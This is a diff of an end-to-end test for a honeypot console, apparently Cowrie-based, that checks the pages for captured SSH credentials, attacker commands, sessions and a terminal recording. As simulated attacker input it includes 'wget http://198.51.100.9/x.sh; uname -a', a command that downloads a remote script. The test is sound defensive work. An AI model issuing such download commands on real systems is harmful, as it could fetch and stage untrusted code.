@@ -7,7 +7,7 @@ import { expect, test } from "bun:test";
 import { readFileSync } from "node:fs";
 import { EventStreamClient, getJson, startTestCore, until } from "../helpers";
 import { stringify } from "../../src/protocol/json";
-import { httpAttack, launchBrowser, sshAttack, startSystem } from "../helpers/console";
+import { httpAttack, launchBrowser, sshAttack, sshShell, startSystem } from "../helpers/console";
 import { sha256 } from "../../src/core/auth";
 import { consoleBundle } from "../../src/core/console/build";
 
@@ -126,6 +126,8 @@ test("install from /nodes, attack, and see it on every page; a command from /nod
   for (const c of ["root / 123456", "admin / not-the-password", "admin / hunter2", "paused / while-paused"]) await creds.getByText(c, { exact: true }).waitFor();
   await page.getByTestId("commands").getByText("wget http://198.51.100.9/x.sh; uname -a").waitFor();
   await page.locator("#downloads").getByText("http://198.51.100.9/x.sh").waitFor();
+  // Its sessions, from the sessions API: the login that worked among them.
+  await page.locator("#sessions").getByTestId("sessions").getByText("root / 123456").waitFor();
   const facts = await page.getByTestId("attacker-facts").textContent();
   expect(facts).toContain(`First seen${stored.at(-1).timestamp.replace("T", " ").replace(/\.\d+Z$/, "Z")}`);
   expect(facts).toContain(`Last seen${stored[0].timestamp.replace("T", " ").replace(/\.\d+Z$/, "Z")}`);
@@ -135,6 +137,7 @@ test("install from /nodes, attack, and see it on every page; a command from /nod
   await page.getByTestId("top-usernames").getByText("root").waitFor();
   await page.getByTestId("top-passwords").getByText("123456").waitFor();
   await page.getByTestId("top-ips").getByRole("link", { name: "127.0.0.1" }).waitFor();
+  await page.locator("#top-commands").getByText("wget http://198.51.100.9/x.sh; uname -a").waitFor();
   await page.getByTestId("health").getByText("sensor-1").waitFor();
   // Every event of this test is in the last hour (the node's own node.* events too).
   const all = (await getJson(`${core.api}/api/v1/events?limit=1000`)).body.events.length;
@@ -145,6 +148,32 @@ test("install from /nodes, attack, and see it on every page; a command from /nod
   // Pages whose API this Core lacks say so; settings explain the roles.
   // Sessions and GeoIP exist on this Core: the test's SSH sessions are listed; the map pages
   // show the country and network tables (loopback has neither) with the data's credit.
+  // /sessions lists an SSH shell session with its commands; its page shows the credentials,
+  // the commands (one the shell does not know, marked) and plays the terminal recording.
+  expect((await sshShell(ports.ssh, "root", "123456", ["frobnicate", "echo honeybee-was-here"])).code).toBe(0);
+  const shell = (await until(async () => {
+    const s = (await getJson(`${core.api}/api/v1/sessions?login_success=true&has_commands=true`)).body.sessions as any[];
+    const recorded = s.find((x) => x.recording);
+    return recorded && (await getJson(`${core.api}/api/v1/sessions/${recorded.id}`)).body.recording_file?.received ? recorded : null;
+  }, "the SSH shell's recording on Core"))!;
+  await page.goto(core.api + "/sessions?login_success=true");
+  const sessionRow = page.getByTestId("sessions").locator(`tr[data-session="${shell.session}"]`);
+  await sessionRow.getByText("root / 123456").waitFor();
+  // The exec session of the /live check and this shell: both logged in.
+  expect(await page.getByTestId("sessions").locator("tbody tr").count()).toBe(2);
+  expect(await sessionRow.locator("td").allTextContents()).toEqual([expect.any(String), "127.0.0.1", "ssh-01", "root / 123456", "3", "0", expect.stringMatching(/ s$/), "yes", shell.session]);
+  await sessionRow.getByRole("link", { name: shell.session }).click();
+  await page.waitForURL(`${core.api}/sessions/${shell.id}`);
+  await page.getByTestId("credentials").getByText("root / 123456").waitFor();
+  const commands = page.getByTestId("commands");
+  await commands.locator("li", { hasText: "echo honeybee-was-here" }).waitFor();
+  expect(await commands.locator("li").allTextContents()).toEqual(["frobnicatenot found", "echo honeybee-was-here", "exit"]);
+  await page.getByTestId("session-events").getByText("cowrie.log.closed").waitFor();
+  // The player: asciinema-player's element; played, its terminal shows what was typed.
+  const player = page.getByTestId("player").locator(".ap-player");
+  await player.waitFor();
+  await player.click();
+  await page.getByTestId("player").locator(".ap-term", { hasText: "honeybee-was-here" }).waitFor();
   await page.goto(core.api + "/sessions");
   await page.getByTestId("sessions").locator("tbody tr").first().waitFor();
   await page.goto(core.api + "/map");
